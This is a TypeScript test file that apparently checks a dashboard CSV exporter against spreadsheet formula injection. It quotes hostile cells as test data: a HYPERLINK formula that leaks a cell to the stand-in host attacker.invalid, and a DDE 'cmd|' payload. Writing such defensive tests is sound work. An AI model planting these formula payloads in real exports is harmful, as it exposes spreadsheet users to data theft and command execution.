/**
 * CSV formula injection. The reference is OWASP's "CSV Injection" guidance (from memory): a cell that
 * begins with = + - @ tab (0x09) or carriage return (0x0D) can be run as a formula by a spreadsheet;
 * neutralise it by prefixing a single quote and wrapping the cell in double quotes, with any double
 * quote inside doubled. Reading back uses papaparse's parser (RFC 4180 quoting), not our writer.
 */
import { describe, expect, it } from "vitest";
import Papa from "papaparse";
import { toCsv } from "@/lib/dashboards/csv";
import { unparseCsv } from "@/lib/csv";

const HOSTILE_TITLE = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Open the source")';

function readBack(csv: string): string[][] {
  return Papa.parse<string[]>(csv, { header: false, dynamicTyping: false }).data;
}

describe("CSV cells that a spreadsheet would run as a formula (OWASP CSV Injection, from memory)", () => {
  it("neutralises a title starting with =HYPERLINK( : quote-prefixed and wrapped in double quotes", () => {
    const csv = toCsv(["title", "year"], [{ title: HOSTILE_TITLE, year: 2019 }]);
    const line = csv.split("\n")[1];
    // OWASP: prefix ' , wrap in double quotes, double every inner double quote.
    expect(line).toBe(`"'${HOSTILE_TITLE.replace(/"/g, '""')}",2019`);
    expect(readBack(csv)[1][0]).toBe(`'${HOSTILE_TITLE}`);
  });

  // Each of OWASP's six starting characters (from memory): = + - @ tab carriage return.
  it.each([
    ["equals", "=1+2"],
    ["plus", "+SUM(A1:A9)"],
    ["minus", "-2+3+cmd|' /C calc'!A0"],
    ["at", "@SUM(A1:A2)"],
    ["tab", "\t=1+2"],
    ["carriage return", "\r=1+2"],
  ])("neutralises a text cell starting with %s", (_name, value) => {
    const csv = toCsv(["sentence"], [{ sentence: value }]);
    const field = csv.slice(csv.indexOf("\n") + 1);
    expect(field.startsWith(`"'`)).toBe(true);
    expect(readBack(csv)[1][0]).toBe(`'${value}`);
  });

  it("keeps numbers as numbers: a numeric -0.5 and PostgreSQL's numeric text '-0.5' are data", () => {
    const csv = toCsv(
      ["diff", "pg_numeric", "count", "plus"],
      [{ diff: -0.5, pg_numeric: "-0.5", count: "-3", plus: "+1.5e-3" }],
    );
    expect(csv.split("\n")[1]).toBe("-0.5,-0.5,-3,+1.5e-3");
  });

  it("still neutralises text that only looks numeric at the start", () => {
    const csv = toCsv(["a", "b"], [{ a: "-1+1", b: "- a dash list item" }]);
    expect(readBack(csv)[1]).toEqual(["'-1+1", "'- a dash list item"]);
  });

  it("leaves ordinary text alone, including = later in the cell", () => {
    const csv = toCsv(["sentence"], [{ sentence: "Reliability = .70 was deemed acceptable" }]);
    expect(csv.split("\n")[1]).toBe("Reliability = .70 was deemed acceptable");
  });

  it("applies to objects written with a column list too (the demo metadata file)", () => {
    const csv = unparseCsv([{ filename: "a.pdf", title: "@import of a scale" }], { columns: ["filename", "title"] });
    expect(readBack(csv)[1]).toEqual(["a.pdf", "'@import of a scale"]);
  });
});
